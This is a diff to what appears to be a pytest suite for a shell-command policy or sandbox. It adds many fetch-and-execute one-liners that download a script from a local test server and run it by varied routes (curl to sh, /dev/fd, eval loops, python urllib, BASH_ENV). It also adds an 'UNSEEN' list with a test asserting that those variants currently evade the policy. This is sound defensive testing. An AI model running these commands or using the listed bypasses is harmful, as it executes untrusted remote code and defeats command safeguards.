@@ -211,6 +211,20 @@ HOSTILE = [
     r"curl -s $U/s.sh | (sleep .2; install -m755 /dev/stdin f); ./f",
     r"curl -s $U/s.sh | socat -u - EXEC:sh",
     r'(printf "GET /s.sh HTTP/1.0\r\n\r\n"; sleep .5) | socat - TCP:127.0.0.1:$P | sh',
+    r"curl -s $U/s.sh > /dev/shm/x$$; sh /dev/shm/x$$; rm /dev/shm/x$$",
+    r'while read -r l; do eval "$l"; done < <(curl -s $U/s.sh)',
+    r"exec 5< <(curl -s $U/s.sh); sh <&5",
+    r"exec 5< <(curl -s $U/s.sh); . /dev/fd/5",
+    r"printf 'source <(curl -s %s/s.sh)\n' $U > l.sh; bash l.sh",
+    r"""printf 'bash -c "$(curl -s %s/s.sh)"\n' $U | bash""",
+    r"""python3 -c "import urllib.request as u; open('f','wb').write(u.urlopen('$U/s.sh').read())"; sh f""",
+    r"""python3 -c "import urllib.request as u; u.urlretrieve('$U/s.sh','f')"; sh f""",
+    r'''python3 -c "import urllib.request as u,subprocess as s; s.run(['sh'],input=u.urlopen('$U/s.sh').read())"''',
+    r"""echo "import urllib.request as u; print(u.urlopen('$U/s.sh').read().decode())" > fetch.py; python3 fetch.py | sh""",
+    r"""curl -s -o f $U/s.sh; python3 -c "import os; os.rename('f','g')"; sh g""",
+    r"curl -s $U/s.sh -o f; find f -exec sh {} \;",
+    r"curl -s $U/s.sh -o f; xargs sh <<< f",
+    r"curl -s $U/s.sh -o f; cat f > >(sh); sleep .2",
 ]
 
 
@@ -412,3 +426,18 @@ def _resident(pid: int) -> int:
         if line.startswith("VmRSS:"):
             return int(line.split()[1])
     raise AssertionError("ended")
+
+
+UNSEEN = [
+    "printf 'eval \"$(curl -s %s/s.sh)\"\\n' $U | bash",
+    "curl -s -o f $U/s.sh; F=f; . ./$F",
+    "curl -s -o f $U/s.sh; BASH_ENV=./f bash -c :",
+    "curl -s -o f $U/s.sh; python3 -c \"open('g', 'w').write(open('f').read())\"; sh g",
+    "curl -s -o m.py $U/s.py; python3 -c 'import m'",
+]
+
+
+@pytest.mark.parametrize("script", UNSEEN)
+def test_what_the_docs_call_unseen_runs(account: Account, project: Path, policy: str, port: int, script: str) -> None:
+    """docs/pipe-to-shell.md says so; whoever closes one of these moves its row."""
+    assert "PWNED-42" in _run(account, policy, project, script, port).stdout
